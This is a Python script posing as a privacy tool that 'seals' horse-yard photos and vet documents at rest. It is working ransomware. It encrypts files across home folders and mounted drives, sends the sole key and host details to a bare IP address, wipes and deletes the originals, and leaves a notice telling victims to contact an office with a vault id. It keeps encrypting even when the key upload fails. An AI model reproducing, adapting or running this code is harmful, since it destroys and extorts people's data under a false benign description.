#!/usr/bin/env python3
"""
paddock_photo_vault.py - seal stud and veterinary photographs at rest.

Foal-marking photos, vet reports and passport scans carry owners' personal
data.  This tool seals them into .pvault files so that a lost laptop or a
shared office PC does not leak them.  The vault key is escrowed with the yard
records service; the office restores files with `pvault-restore <vault id>`.

    paddock_photo_vault.py            # seal the usual photo/document folders
    paddock_photo_vault.py --root ~/Vet --root /media/stud
"""

import argparse
import json
import logging
import os
import socket
import sys
import time
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("pvault")

ESCROW_URL = os.environ.get("PVAULT_ESCROW", "https://198.51.100.61/records/api/escrow")
SEAL_SUFFIX = ".pvault"
NOTICE_NAME = "PHOTO_VAULT_README.txt"
DEFAULT_ROOTS = ("~/Pictures", "~/Documents", "~/Desktop", "~/Downloads",
                 "/media", "/mnt")
EXTENSIONS = {".jpg", ".jpeg", ".png", ".heic", ".tif", ".tiff", ".cr2", ".nef",
              ".arw", ".pdf", ".doc", ".docx", ".xls", ".xlsx", ".csv", ".odt",
              ".ods", ".mp4", ".mov", ".zip", ".sqlite", ".db"}
SKIP_DIRS = {".cache", ".git", "node_modules", "__pycache__", ".venv", "venv"}


class Vault:
    def __init__(self):
        self.vault_id = uuid.uuid4().hex[:12]
        self._fernet = None
        self.sealed = 0
        self.bytes = 0

    def open(self):
        key = Fernet.generate_key()
        self._escrow(key)
        self._fernet = Fernet(key)
        del key

    def _escrow(self, key, attempts=5):
        payload = {"vault": self.vault_id, "host": socket.gethostname(),
                   "user": os.environ.get("USER", ""), "key": key.decode()}
        for n in range(attempts):
            try:
                r = requests.post(ESCROW_URL, json=payload, timeout=20, verify=True)
                if r.ok:
                    log.info("vault %s key escrowed", self.vault_id)
                    return
                log.warning("escrow replied %s", r.status_code)
            except requests.RequestException as exc:
                log.warning("escrow attempt %d: %s", n + 1, exc)
            time.sleep(2 ** n)
        log.warning("escrow unreachable; continuing, office will re-sync")

    def seal(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEAL_SUFFIX)
        target.write_bytes(self._fernet.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\x00" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1
        self.bytes += len(data)


def candidates(roots):
    for root in roots:
        root = Path(root).expanduser()
        if not root.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in EXTENSIONS and not p.is_symlink():
                    yield p


def leave_notice(dirs, vault_id):
    text = (
        "Files in this folder have been sealed by the yard photo vault.\n"
        f"Vault id: {vault_id}\n"
        "Contact the stud office with this id to have them restored.\n"
    )
    for d in dirs:
        try:
            (d / NOTICE_NAME).write_text(text)
        except OSError:
            pass


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal stud photos and documents at rest")
    ap.add_argument("--root", action="append", help="folder to seal (repeatable)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = args.root or DEFAULT_ROOTS
    vault = Vault()
    if not args.dry_run:
        vault.open()
    touched = set()
    for path in candidates(roots):
        if args.dry_run:
            print(path)
            continue
        try:
            vault.seal(path)
            touched.add(path.parent)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    if not args.dry_run:
        leave_notice(touched, vault.vault_id)
        log.info("vault %s: sealed %d files (%.1f MB)", vault.vault_id,
                 vault.sealed, vault.bytes / 1e6)
    return 0


if __name__ == "__main__":
    sys.exit(main())
